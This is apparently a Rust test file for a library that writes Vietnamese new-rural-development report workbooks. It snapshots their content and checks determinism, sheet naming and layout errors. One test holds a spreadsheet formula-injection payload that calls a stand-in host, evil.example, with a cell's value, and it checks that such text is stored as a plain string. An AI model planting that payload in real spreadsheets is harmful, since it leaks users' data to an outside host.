//! The content of a report workbook, read back with calamine and snapshotted as text;
//! determinism of `workbook` and `template`.

use std::fmt::Write as _;
use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use ntm_reports::{Cell, Column, ReportError, Table, Tone, template, workbook};
use rust_decimal::Decimal;

use crate::fixtures::small_spec;

fn dec(s: &str) -> Decimal {
    s.parse().unwrap()
}

fn sample() -> Table {
    Table {
        sheet: "Tổng hợp 2021: xã/huyện".into(),
        title: "BẢNG TỔNG HỢP KẾT QUẢ THỰC HIỆN BỘ TIÊU CHÍ XÃ NÔNG THÔN MỚI NĂM 2021".into(),
        subtitle: vec![
            "Huyện Kỳ Anh — bộ tiêu chí xa-ntm-2021-2025".into(),
            "Số liệu minh họa (demo), không phải số liệu chính thức".into(),
        ],
        columns: vec![
            Column::new("STT", 5.0),
            Column::new("Đơn vị", 24.0),
            Column::new("Số tiêu chí đạt", 10.0),
            Column::new("Tỷ lệ đạt", 10.0),
            Column::new("Thu nhập (triệu đồng)", 12.0),
        ],
        header_rows: vec![vec![
            (String::new(), 1),
            (String::new(), 1),
            ("Kết quả".into(), 2),
            (String::new(), 1),
        ]],
        rows: vec![
            vec![
                Cell::int(1),
                Cell::text("Xã Kỳ Xuân"),
                Cell::int(19).with_tone(Tone::Good),
                Cell::percent(dec("100")).with_tone(Tone::Good),
                Cell::decimal(dec("56.5"), 1),
            ],
            vec![
                Cell::int(2),
                Cell::text("Xã Kỳ Bắc"),
                Cell::int(15).with_tone(Tone::Bad),
                Cell::percent(dec("78.95")).with_tone(Tone::Bad),
                Cell::empty().with_tone(Tone::Unknown),
            ],
        ],
        totals: vec![vec![
            Cell::empty(),
            Cell::text("Bình quân").with_tone(Tone::Emphasis),
            Cell::decimal(dec("17"), 0),
            Cell::percent(dec("89.475")),
        ]],
        notes: vec!["Tỷ lệ đạt = số tiêu chí đạt / 19 × 100.".into()],
        landscape: true,
        freeze_columns: 2,
    }
}

/// The workbook as text: each sheet, its merged ranges, then its rows of cells.
fn grid(bytes: &[u8]) -> String {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let mut out = String::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        let mut merges = book.merge_cells_by_sheet_name(&name).unwrap();
        merges.sort();
        writeln!(out, "== {name} ==").unwrap();
        for m in merges {
            writeln!(out, "merged {:?}..{:?}", m.start, m.end).unwrap();
        }
        let (r0, c0) = range.start().unwrap_or((0, 0));
        for (i, row) in range.rows().enumerate() {
            let cells: Vec<String> = row
                .iter()
                .map(|d| match d {
                    Data::Empty => String::new(),
                    Data::String(s) => s.replace('\n', "⏎"),
                    Data::Float(f) => format!("{f}"),
                    other => format!("{other:?}"),
                })
                .collect();
            writeln!(
                out,
                "{:>2}@{c0}: {}",
                r0 as usize + i + 1,
                cells.join(" | ")
            )
            .unwrap();
        }
    }
    out
}

#[test]
fn report_content_snapshot() {
    let bytes = workbook(&[sample()]).unwrap();
    insta::assert_snapshot!("report_grid", grid(&bytes));
}

#[test]
fn template_content_snapshot() {
    let mut spec = small_spec();
    spec.existing
        .insert(("18850@2020-01-01".into(), "3.1".into()), "85.5".into());
    spec.existing
        .insert(("18853@2020-01-01".into(), "17.1".into()), "đạt".into());
    insta::assert_snapshot!("template_grid", grid(&template(&spec).unwrap()));
}

#[test]
fn same_input_gives_the_same_bytes() {
    let tables = [
        sample(),
        Table {
            sheet: "Tổng hợp 2021: xã/huyện".into(),
            ..sample()
        },
    ];
    assert_eq!(workbook(&tables).unwrap(), workbook(&tables).unwrap());
    let spec = small_spec();
    assert_eq!(template(&spec).unwrap(), template(&spec).unwrap());
}

#[test]
fn sheet_names_are_sanitised_and_unique() {
    let tables = [sample(), sample()];
    let bytes = workbook(&tables).unwrap();
    let book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    assert_eq!(
        book.sheet_names(),
        ["Tổng hợp 2021- xã-huyện", "Tổng hợp 2021- xã-huyện (2)"]
    );
}

#[test]
fn tables_that_cannot_be_laid_out() {
    assert!(matches!(workbook(&[]), Err(ReportError::Invalid { .. })));
    let mut wide = sample();
    wide.rows[0].push(Cell::int(1));
    wide.rows[0].push(Cell::int(2));
    let e = workbook(&[wide]).unwrap_err();
    assert_eq!(
        e.to_string(),
        "bảng “Tổng hợp 2021- xã-huyện”: dòng 1 có 7 ô nhưng bảng chỉ có 5 cột"
    );
    let mut groups = sample();
    groups.header_rows = vec![vec![("Quá rộng".into(), 9)]];
    assert!(workbook(&[groups]).is_err());
    let none = Table {
        columns: vec![],
        ..sample()
    };
    assert!(workbook(&[none]).is_err());
}

#[test]
fn a_single_column_table_is_written() {
    let one = Table {
        columns: vec![Column::new("Đơn vị", 30.0)],
        header_rows: vec![],
        rows: vec![vec![Cell::text("Xã Kỳ Xuân")]],
        totals: vec![],
        freeze_columns: 3,
        ..sample()
    };
    let text = grid(&workbook(&[one]).unwrap());
    assert!(text.contains("Xã Kỳ Xuân"), "{text}");
}

/// A user's text that looks like a formula stays text in every workbook ntm writes: read
/// back, it is a string cell, never a formula.
#[test]
fn formula_like_text_is_written_as_a_string() {
    let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")";
    let t = Table {
        columns: vec![Column::new("Ghi chú", 30.0)],
        header_rows: vec![],
        rows: vec![vec![Cell::text(hostile)], vec![Cell::text("+1+1")]],
        totals: vec![],
        ..sample()
    };
    let bytes = workbook(&[t]).unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cell"
    );
    let range = book.worksheet_range(&name).unwrap();
    let strings: Vec<&Data> = range.used_cells().map(|(_, _, d)| d).collect();
    assert!(
        strings.contains(&&Data::String(hostile.into())),
        "{strings:?}"
    );
    assert!(
        strings.contains(&&Data::String("+1+1".into())),
        "{strings:?}"
    );
}
